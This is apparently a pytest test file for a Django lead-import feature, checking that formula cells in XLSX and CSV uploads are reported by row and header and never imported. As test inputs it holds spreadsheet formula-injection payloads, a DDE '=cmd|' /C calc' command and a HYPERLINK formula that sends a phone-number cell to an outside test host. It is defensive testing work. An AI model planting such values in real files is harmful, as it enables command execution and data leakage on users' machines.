"""Formula cells are reported (row, the column's header as written, 公式单元格不导入…),
never imported and never silently emptied; OWASP-neutralised cells read back as text."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook

from parklink.core import exchange
from parklink.leads.models import Lead
from parklink.office.management.commands.export import KINDS

pytestmark = pytest.mark.django_db


def _xlsx(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "线索"
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _problems(name: str, data: bytes) -> list[str]:
    with pytest.raises(exchange.ImportFailed) as failed:
        exchange.import_files([exchange.InputFile(name=name, data=data)], KINDS)
    return [str(p) for p in failed.value.problems]


def test_xlsx_formula_cells_are_reported_with_row_and_header():
    data = _xlsx(
        [
            ["联系人", "手机号", "公司", "需求"],
            ["王先生", "13800138000", '=HYPERLINK("http://x.test/?"&B2)', "研发楼"],
            ["李女士", "=1+13900139000", "正常公司", "厂房"],
        ]
    )
    problems = _problems("leads.xlsx", data)
    assert len(problems) == 2
    assert "第2行/row 2 公司=" in problems[0] and "HYPERLINK" in problems[0]
    assert "公式单元格不导入" in problems[0] and "formula" in problems[0]
    assert "第3行/row 3 手机号=" in problems[1]
    assert not Lead.objects.exists()


def test_csv_cells_starting_with_equals_are_formulas():
    data = "联系人,手机号,公司,需求\n王先生,13800138000,=cmd|' /C calc'!A0,研发楼\n".encode()
    problems = _problems("leads.csv", data)
    assert len(problems) == 1
    assert "第2行/row 2 公司=" in problems[0] and "公式单元格不导入" in problems[0]
    assert not Lead.objects.exists()


def test_negative_numbers_and_neutralised_text_are_not_formulas():
    data = "联系人,手机号,公司,需求\n王先生,13800138000,'=HYPERLINK(x),研发楼 -5 平\n".encode()
    exchange.import_files([exchange.InputFile(name="leads.csv", data=data)], KINDS)
    lead = Lead.objects.get()
    assert lead.company == "=HYPERLINK(x)"  # stored as text, never evaluated
